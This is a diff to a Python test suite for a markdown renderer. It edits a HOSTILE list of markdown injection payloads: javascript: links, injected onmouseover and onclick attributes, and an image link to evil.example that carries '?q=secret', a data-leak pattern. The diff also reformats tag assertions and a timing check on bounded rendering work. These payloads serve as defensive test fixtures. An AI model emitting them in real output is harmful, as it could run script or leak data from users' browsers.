@@ -25,7 +25,7 @@ HOSTILE = [
     "[x](https://bank.example@evil.example)",
     "<javascript:alert(1)>",
     "![x](https://evil.example/p.png)",
-    "![x](https://evil.example/p.png?q=secret \"t\")",
+    '![x](https://evil.example/p.png?q=secret "t")',
     '[x](https://a.example "onmouseover=alert(1) \\" x")',
     '[x](https://a.example/"onclick="alert(1))',
     "[x]: javascript:alert(1)\n\n[x]",
@@ -73,7 +73,15 @@ def test_links_open_apart_and_give_nothing_away() -> None:
 
 def test_markdown_of_an_answer() -> None:
     html = render_markdown("# Title\n\n**Bold** and *soft*\nnext\n\n- one\n- two\n\n1. `x`\n\n##### Small")
-    for piece in ("<h3>Title</h3>", "<strong>Bold</strong>", "<em>soft</em><br>", "<li>one</li>", "<ol>", "<code>x</code>", "<h4>Small</h4>"):
+    for piece in (
+        "<h3>Title</h3>",
+        "<strong>Bold</strong>",
+        "<em>soft</em><br>",
+        "<li>one</li>",
+        "<ol>",
+        "<code>x</code>",
+        "<h4>Small</h4>",
+    ):
         assert piece in html
 
 
@@ -94,7 +102,7 @@ def test_invisible_characters_are_gone_even_as_entities() -> None:
 
 @pytest.mark.parametrize("piece", ["[", "*a ", "> ", "a**b", "- ", "`", "[a](", "&", "<", "_*", "![[", "1. ", "[1]"])
 def test_work_is_bounded(piece: str) -> None:
-    begun = time.monotonic()
+    begun = time.process_time()
     html = render_markdown(piece * (3 * MAX_CHARS // len(piece)), citations={1})
-    assert time.monotonic() - begun < 3
+    assert time.process_time() - begun < 3
     assert len(html) < 100 * MAX_CHARS
